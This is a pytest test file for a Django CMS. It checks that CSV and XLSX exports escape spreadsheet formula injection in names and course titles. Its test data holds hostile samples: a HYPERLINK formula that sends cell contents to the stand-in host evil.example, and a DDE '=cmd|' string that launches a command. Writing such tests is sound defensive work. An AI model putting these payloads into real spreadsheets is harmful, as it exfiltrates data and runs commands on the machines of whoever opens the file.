"""Every spreadsheet export keeps hostile text inert: a cell that would run as a formula in
Excel or LibreOffice starts with an apostrophe (CSV and XLSX; issue 13)."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from cms.exports import formula_escape
from tests.factories import (
    CoursePageFactory,
    CrisisCentreFactory,
    EnrolmentFactory,
    GroupFactory,
)

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def admin(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("k", "k@example.invalid", "x"))
    return client


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]


def xlsx_cells(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+358401234567", "'+358401234567"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("Anna = Anni", "Anna = Anni"),
        (12, 12),
    ],
)
def test_formula_escape(value, escaped):
    assert formula_escape(value) == escaped


def test_roster_export_escapes_what_participants_typed(admin, site_tree):
    group = GroupFactory()
    EnrolmentFactory(group=group, display_name=EVIL, accessibility_needs="@cmd")
    url = reverse("groups_roster_export")

    cells = csv_cells(admin.get(url, {"format": "csv"}).content)
    assert "'" + EVIL in cells and "'@cmd" in cells
    assert EVIL not in cells

    cells = xlsx_cells(admin.get(url, {"format": "xlsx"}).content)
    assert "'" + EVIL in cells and EVIL not in cells


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_report_export_escapes_course_titles(admin, site_tree, fmt):
    GroupFactory(course=CoursePageFactory(title="=2+5"), status="running")
    response = admin.get(f"/admin/reports/groups/?by=course&format={fmt}")
    cells = csv_cells(response.content) if fmt == "csv" else xlsx_cells(response.content)
    assert "'=2+5" in cells and "=2+5" not in cells


def test_group_list_export_escapes_names(admin, site_tree):
    GroupFactory(name="=cmd|' /C calc'!A0")
    export = admin.get(reverse("groups_group:index"), {"export": "csv"})
    cells = csv_cells(b"".join(export.streaming_content))
    assert "'=cmd|' /C calc'!A0" in cells


def test_crisis_centre_export_escapes_names(admin, site_tree):
    CrisisCentreFactory(name="+Kriisikeskus", city="-Oulu")
    export = admin.get(reverse("wagtailsnippets_cms_crisiscentre:list"), {"export": "csv"})
    cells = csv_cells(b"".join(export.streaming_content))
    assert "'+Kriisikeskus" in cells and "'-Oulu" in cells
